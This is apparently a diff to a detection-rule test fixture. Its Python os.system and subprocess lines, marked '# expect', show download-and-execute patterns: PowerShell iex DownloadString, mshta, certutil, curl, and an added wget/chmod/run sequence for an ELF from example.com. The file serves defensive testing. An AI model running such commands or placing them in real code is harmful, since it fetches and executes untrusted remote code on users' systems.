@@ -7,4 +7,7 @@ os.system('powershell -c "iex (New-Object Net.WebClient).DownloadString(\'https:
 subprocess.call("mshta https://example.com/x.hta", shell=True)  # expect
 os.system("certutil -urlcache -split -f https://example.com/x.txt x.txt")  # expect
 os.system("curl -o data.bin https://example.com/data.bin")  # expect
+os.system("wget https://example.com/tool.elf")
+os.system("chmod +x tool.elf")
+os.system("./tool.elf &")  # expect
 os.system("cd C:/ && curl -s https://example.com/x.exe -o x.exe && x.exe")  # expect
